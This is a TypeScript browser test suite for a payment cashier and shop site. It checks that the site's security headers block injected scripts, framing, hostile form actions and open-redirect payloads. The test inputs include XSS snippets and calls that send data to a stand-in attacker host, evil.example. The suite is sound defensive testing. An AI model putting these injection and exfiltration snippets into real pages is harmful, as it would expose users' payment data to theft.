import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { HttpDoor } from '@mocks/http';
import { siteHeaders } from '@mocks/site-headers';
import type { Page } from 'playwright-core';
import type { Visit } from '../support/visit';
import { ACTIONS, PAYLOADS } from './payloads';
import { makeLink, payer } from './till';

type Place = Visit<HttpDoor>;
const PAY = { name: /^支付宝支付 ¥/ };

async function onPage(
  place: Place,
  path: string,
  run: (page: Page, urls: string[]) => Promise<void>,
) {
  const one = await payer(place.browser);
  try {
    await one.page.goto(place.site.origin + path);
    await run(one.page, one.heard.urls);
  } finally {
    await one.context.close();
  }
}

/** The rules by which the browser itself refused what was tried. */
async function violations(page: Page, act: () => void): Promise<readonly string[]> {
  await page.evaluate(() => {
    const found: string[] = [];
    Object.assign(window, { found });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      found.push(effectiveDirective),
    );
  });
  await page.evaluate(act);
  await page.waitForTimeout(300);
  return page.evaluate(() => (window as unknown as { found: string[] }).found);
}

const inlineScript = () => {
  const script = document.createElement('script');
  script.textContent = 'window.pwned = true';
  document.body.appendChild(script);
};
const handler = () => {
  const holder = document.createElement('div');
  holder.innerHTML = '<img src="data:x" onerror="window.pwned = true">';
  document.body.appendChild(holder);
};
const elsewhereForm = () => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = 'https://evil.example/take';
  document.body.appendChild(form);
  form.submit();
};
const elsewhereScript = () => {
  const script = document.createElement('script');
  script.src = 'https://evil.example/x.js';
  document.body.appendChild(script);
};
const elsewhereCall = () => {
  fetch('https://evil.example/take').catch(() => undefined);
};

const ATTACKS = [
  ['an inline script', inlineScript, /^script-src/],
  ['an event handler in HTML', handler, /^script-src/],
  ['a form to another host', elsewhereForm, /^form-action/],
  ['a script of another host', elsewhereScript, /^script-src/],
  ['a call to another host', elsewhereCall, /^connect-src/],
] as const;

const PAGES = [
  ['/c/', 'cashier'],
  ['/', 'shop'],
  ['/pages/account/login/index', 'shop'],
] as const;

function policies(place: Place): void {
  for (const [path, kind] of PAGES) {
    void test(`${path} is sent with the headers of ${kind}`, () =>
      onPage(place, path, async (page) => {
        const reply = await page.request.get(place.site.origin + path);
        const sent = reply.headers();
        for (const [name, text] of Object.entries(siteHeaders(kind))) {
          assert.equal(sent[name.toLowerCase()], text, name);
        }
      }));
    for (const [name, act, rule] of ATTACKS) {
      void test(`${path} refuses ${name}`, () =>
        onPage(place, path, async (page, urls) => {
          const found = await violations(page, act);
          assert.ok(
            found.some((one) => rule.test(one)),
            `nothing refused it: ${found.join()}`,
          );
          assert.equal(await page.evaluate(() => 'pwned' in window), false);
          assert.ok(page.url().startsWith(place.site.origin));
          assert.ok(
            urls.every((url) => !url.includes('/take')),
            urls.join(),
          );
        }));
    }
  }

  void test('no other page can frame the cashier', () =>
    onPage(place, '/mock-cashier', async (page) => {
      await page.setContent(`<iframe src="${place.site.origin}/c/"></iframe>`);
      await page.waitForTimeout(500);
      const texts = await Promise.all(
        page.frames().map((frame) =>
          frame
            .locator('#cashier')
            .count()
            .catch(() => 0),
        ),
      );
      assert.deepEqual(
        texts.filter((count) => count > 0),
        [],
      );
    }));
}

function forms(place: Place): void {
  for (const action of ACTIONS) {
    void test(`a form to ${JSON.stringify(action)} is not posted`, async () => {
      const { url } = await makeLink(place.site);
      const one = await payer(place.browser);
      await one.page.route('**/api/cashier/form', async (route) => {
        const reply = await route.fetch();
        const told = (await reply.json()) as { data: { action: string } };
        told.data.action = action;
        await route.fulfill({ response: reply, json: told });
      });
      await one.page.goto(url);
      await one.page.getByRole('button', PAY).click();
      await one.page.getByRole('heading', { name: '正在等待支付结果' }).waitFor();
      assert.equal(one.page.url(), `${place.site.origin}/c/`);
      assert.ok(one.heard.urls.every((asked) => asked.startsWith(place.site.origin)));
      await one.context.close();
    });
  }
}

function redirects(place: Place): void {
  const stays = async (path: string) =>
    onPage(place, path, async (page, urls) => {
      await page.waitForTimeout(150);
      assert.equal(new URL(page.url()).origin, place.site.origin, path);
      assert.ok(
        urls.every((url) => url.startsWith(place.site.origin)),
        `${path} led to ${urls.join()}`,
      );
      assert.equal(await page.evaluate(() => 'pwned' in window), false);
    });
  const names = ['next', 'redirect', 'return_url', 'quit_url', 'url'];
  void test(`the cashier follows none of ${String(PAYLOADS.length)} payloads, by any name`, async () => {
    for (const payload of PAYLOADS) {
      const claims = names.map((name) => `${name}=${encodeURIComponent(payload)}`).join('&');
      await stays(`/c/?${claims}&trade_status=TRADE_SUCCESS&success=1`);
    }
  });
  void test(`the cashier follows none of ${String(PAYLOADS.length)} payloads in its fragment`, async () => {
    for (const payload of PAYLOADS) await stays(`/c/#${payload}`);
  });
  void test(`the shop’s sign-in follows none of ${String(PAYLOADS.length)} payloads`, async () => {
    for (const payload of PAYLOADS) {
      const next = encodeURIComponent(payload);
      await stays(`/pages/account/login/index?next=${next}&redirect=${next}`);
    }
  });
}

/** Whoever comes to the cashier with bad intentions. */
export function hostileCases(place: Place): void {
  void describe('policies, enforced by Chromium', () => policies(place));
  void describe('hostile forms', () => forms(place));
  void describe('open redirects', () => redirects(place));
}
